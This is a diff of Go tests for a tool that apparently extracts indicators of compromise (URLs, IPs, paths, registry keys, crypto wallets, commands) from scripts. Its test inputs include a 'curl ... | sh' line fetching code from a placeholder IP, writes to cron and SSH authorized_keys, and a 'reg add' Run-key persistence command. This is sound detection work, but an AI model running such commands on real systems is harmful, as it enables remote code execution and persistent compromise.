@@ -41,6 +41,11 @@ func TestIndicators(t *testing.T) {
 		{`c = "curl -s http://203.0.113.7/x | sh"`, []string{"url http://203.0.113.7/x", "ip 203.0.113.7", "command curl -s http://203.0.113.7/x | sh"}},
 		{`open("/etc/cron.d/a", "w")`, []string{"path /etc/cron.d/a"}},
 		{`open("~/.ssh/authorized_keys")`, []string{"path ~/.ssh/authorized_keys"}},
+		{`OpenKey(HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run")`,
+			[]string{`registry Software\Microsoft\Windows\CurrentVersion\Run`}},
+		{`os.system("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v a")`, []string{
+			`registry HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce`, `command reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v a`}},
+		{`OpenKey(HKEY_LOCAL_MACHINE, r"SOFTWARE\Python\PythonCore\3.9\InstallPath")`, nil},
 		{`w = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"`, []string{"wallet 1BoatSLRHtKNngkdXEeobR76b53LETtpyT"}},
 		{`w = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"`, []string{"wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"}},
 		{`w = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"`, []string{"wallet 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"}},
@@ -78,27 +83,6 @@ func TestNoIndicatorIsSeenWhereThereIsNone(t *testing.T) {
 	} {
 		if got := found(script); len(got) > 0 {
 			t.Errorf("%s: %q", script, got)
-		}
-	}
-}
-
-func TestDefanged(t *testing.T) {
-	for _, test := range []struct {
-		in   Indicator
-		want string
-	}{
-		{Indicator{URL, "https://a.example/b.c?d=e.f"}, "hxxps://a[.]example/b.c?d=e.f"},
-		{Indicator{URL, "ftp://203.0.113.7"}, "ftp://203[.]0[.]113[.]7"},
-		{Indicator{IP, "203.0.113.7"}, "203[.]0[.]113[.]7"},
-		{Indicator{IP, "2001:db8::7"}, "2001[:]db8[:][:]7"},
-		{Indicator{Port, "203.0.113.7:80"}, "203[.]0[.]113[.]7:80"},
-		{Indicator{Domain, "a.example"}, "a[.]example"},
-		{Indicator{Email, "a@b.example"}, "a[at]b[.]example"},
-		{Indicator{Path, "/tmp/a.b"}, "/tmp/a.b"},
-		{Indicator{Command, "a\x1b[2J\u202eb\n"}, "a [2J b "},
-	} {
-		if got := test.in.Defanged(); got != test.want {
-			t.Errorf("%q, want %q", got, test.want)
 		}
 	}
 }
@@ -177,15 +161,15 @@ func FuzzIndicators(f *testing.F) {
 		f.Add([]byte(seed))
 	}
 	f.Fuzz(func(t *testing.T, text []byte) {
-		count := map[Kind]int{}
-		seen := map[Indicator]bool{}
+		count := map[finding.Kind]int{}
+		seen := map[finding.Indicator]bool{}
 		for _, i := range Indicators([]redact.Result{redact.Text(text)}) {
 			count[i.Kind]++
 			if seen[i] || i.Value == "" || len(i.Value) > maxIndicator || count[i.Kind] > finding.MaxIndicators {
 				t.Fatalf("%+v", i)
 			}
 			seen[i] = true
-			if d := i.Defanged(); strings.ContainsAny(d, "\n\x1b") || strings.Contains(strings.ToLower(d), "http://") && i.Kind == URL && strings.HasPrefix(strings.ToLower(i.Value), "http") && strings.Count(strings.ToLower(i.Value), "http://") == 1 {
+			if d := i.Defanged(); strings.ContainsAny(d, "\n\x1b") || strings.Contains(strings.ToLower(d), "http://") && i.Kind == finding.URL && strings.HasPrefix(strings.ToLower(i.Value), "http") && strings.Count(strings.ToLower(i.Value), "http://") == 1 {
 				t.Fatalf("%q is not defanged", d)
 			}
 		}
